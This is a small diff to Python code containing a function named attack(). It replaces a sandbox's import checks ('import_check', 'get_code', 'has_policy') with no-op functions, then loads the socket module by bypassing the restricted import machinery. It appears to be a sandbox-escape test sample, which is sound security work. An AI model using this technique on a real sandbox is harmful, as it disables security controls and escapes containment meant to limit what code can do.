@@ -11,7 +11,7 @@ from . import payload
 
 def attack():
     import good
-    for name in "import_check", "is_denial", "has_policy":
+    for name in "import_check", "get_code", "has_policy":
         if hasattr(_imp, name):
             setattr(_imp, name, lambda *args: None)
     socket = bootstrap._gcd_import("socket")
